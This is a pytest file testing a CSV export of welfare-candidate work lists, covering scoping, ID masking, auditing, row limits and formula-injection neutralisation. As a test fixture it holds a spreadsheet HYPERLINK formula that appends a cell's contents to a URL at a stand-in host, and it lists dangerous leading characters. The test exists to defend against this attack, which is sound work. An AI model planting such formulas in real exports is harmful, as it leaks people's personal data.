"""Issue 13 item 8, exports: a work list as CSV (``GET /candidates?...&format=csv``) with the JSON answer's filters,
scoping and masking, UTF-8 with a byte-order mark for Excel, as an attachment — and values beginning with
= + - @ (a village name in the drop here) reach it as text, through the same ``neutralise`` as the XLSX work lists.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import polars as pl
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from dibao.pipeline import run_daily
from dibao.publish import worklist_sheets
from dibao.publish.store import RunStore
from dibao.serve import export
from dibao.serve.app import create_app
from dibao.serve.audit import query_audit
from dibao.serve.export import COLUMNS
from dibao.serve.tokens import add_token

SAMPLE = Path(__file__).resolve().parent.parent / "data" / "samples" / "drop"
DATE = dt.date(2026, 11, 20)
OWN, OTHER = "340402", "340403"
HOSTILE_HOUSEHOLD = "DB340402000002"  # on the sample's exit list, county 340402
HOSTILE_VILLAGE = '=HYPERLINK("http://x.example/?"&J2,"详情")'
MASKED_ID = r"^[0-9]{4}\*{10}[0-9X]{4}$"


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("csv")
    drop = root / "drop"
    shutil.copytree(SAMPLE, drop)
    roll = pl.read_csv(drop / "dibao_roll.csv", infer_schema=False)
    roll = roll.with_columns(pl.when(pl.col("低保家庭编号") == HOSTILE_HOUSEHOLD).then(pl.lit(HOSTILE_VILLAGE))
                             .otherwise(pl.col("行政村")).alias("行政村"))
    roll.write_csv(drop / "dibao_roll.csv")
    run_daily(drop, DATE, RunStore(root / "store"))
    return root / "store"


@pytest.fixture(scope="module")
def tokens(store: Path) -> dict[str, str]:
    tokens_file = store / "tokens.yaml"
    return {"admin": add_token(tokens_file, "管理员", "admin", []),
            "cw": add_token(tokens_file, "大通区-经办", "caseworker", [OWN]),
            "analyst": add_token(tokens_file, "省厅-分析", "analyst", [])}


@pytest.fixture(scope="module")
def app(store: Path, tokens: dict[str, str]) -> FastAPI:
    return create_app(store, store / "tokens.yaml")


@pytest.fixture(scope="module")
def client(app: FastAPI) -> Iterator[TestClient]:
    with TestClient(app) as c:
        yield c


def auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def rows_of(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf"), "a byte-order mark, so Excel reads UTF-8"
    reader = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
    header = next(reader)
    assert header == [h for h, _ in COLUMNS]
    return [dict(zip(header, row, strict=True)) for row in reader]


def all_pages(client: TestClient, token: str, query: str) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    page = 1
    while True:
        body = client.get(f"/candidates?{query}&size=500&page={page}", headers=auth(token)).json()
        items += body["items"]
        if len(items) >= body["total"]:
            return items
        page += 1


def test_csv_is_a_download_excel_reads(client: TestClient, tokens: dict[str, str]) -> None:
    response = client.get("/candidates?type=exit&format=csv", headers=auth(tokens["admin"]))
    assert response.headers["content-disposition"] == f'attachment; filename="candidates-exit-{DATE}.csv"'
    assert rows_of(response)


@pytest.mark.parametrize("query", ["type=exit", "type=inclusion", "type=flag", f"type=exit&county={OWN}",
                                   "type=flag&reason=edge_family", "type=exit&sort=-first_seen"])
def test_csv_has_every_row_the_json_pages_have(client: TestClient, tokens: dict[str, str], query: str) -> None:
    items = all_pages(client, tokens["admin"], query)
    rows = rows_of(client.get(f"/candidates?{query}&format=csv&page=3&size=1", headers=auth(tokens["admin"])))
    assert [r["编号"] for r in rows] == [i["subject_id"] for i in items]  # page and size ignored; same order
    assert [r["户主姓名"] for r in rows] == [i["head_name"] or "" for i in items]


def test_a_caseworkers_csv_is_their_counties_masked(client: TestClient, tokens: dict[str, str]) -> None:
    for kind in ("exit", "inclusion", "flag"):
        rows = rows_of(client.get(f"/candidates?type={kind}&format=csv", headers=auth(tokens["cw"])))
        assert {r["县级区划代码"] for r in rows} <= {OWN} and (rows or kind == "inclusion")  # none in 340402
        items = all_pages(client, tokens["cw"], f"type={kind}")
        assert [(r["编号"], r["户主姓名"], r["户主证件号码"]) for r in rows] == \
            [(i["subject_id"], i["head_name"] or "", i["head_id"] or "") for i in items]
        for row in rows:
            assert not row["户主证件号码"] or "*" in row["户主证件号码"]
            assert not row["户主姓名"] or "*" in row["户主姓名"]
    foreign = rows_of(client.get(f"/candidates?type=exit&county={OTHER}&format=csv", headers=auth(tokens["cw"])))
    assert foreign == []


def test_a_value_beginning_with_equals_reaches_the_csv_as_text(client: TestClient, tokens: dict[str, str]) -> None:
    """The finding: a formula in the drop (here a village name) went into the export as a live formula."""
    rows = rows_of(client.get("/candidates?type=exit&format=csv", headers=auth(tokens["admin"])))
    (row,) = [r for r in rows if r["编号"] == HOSTILE_HOUSEHOLD]
    assert row["行政村"] == "'" + HOSTILE_VILLAGE
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # JSON is data, not a spreadsheet: the value itself is kept there.
    items = all_pages(client, tokens["admin"], "type=exit")
    assert any(i["village"] == HOSTILE_VILLAGE for i in items)


def test_csv_and_xlsx_use_the_one_neutralise() -> None:
    assert export.neutralise is worklist_sheets.neutralise


def test_csv_refusals(client: TestClient, tokens: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    for headers, status in (({}, 401), (auth(tokens["analyst"]), 403)):
        response = client.get("/candidates?format=csv", headers=headers)
        assert response.status_code == status and response.headers["content-type"] == "application/problem+json"
    assert client.get("/candidates?format=xml", headers=auth(tokens["admin"])).status_code == 422
    monkeypatch.setattr(export, "MAX_ROWS", 3)
    refused = client.get("/candidates?type=exit&format=csv", headers=auth(tokens["admin"]))
    assert refused.status_code == 422 and "export limit" in refused.json()["detail"]
    assert "缩小范围" in refused.json()["detail"]


def test_a_csv_export_is_audited_with_its_row_count(client: TestClient, store: Path, tokens: dict[str, str]) -> None:
    rows = rows_of(client.get(f"/candidates?type=exit&county={OWN}&format=csv", headers=auth(tokens["cw"])))
    entry = [e for e in query_audit(store / "audit", user="大通区-经办", action="candidates")
             if "format=csv" in str(e.get("query"))][-1]
    assert entry["status"] == 200 and entry["count"] == len(rows)


def test_max_rows_is_configuration() -> None:
    assert export.max_rows({}) == 100_000
    assert export.max_rows({"DIBAO_API_EXPORT_MAX_ROWS": "500"}) == 500
    for bad in ("many", "0"):
        with pytest.raises(Exception, match="DIBAO_API_EXPORT_MAX_ROWS"):
            export.max_rows({"DIBAO_API_EXPORT_MAX_ROWS": bad})
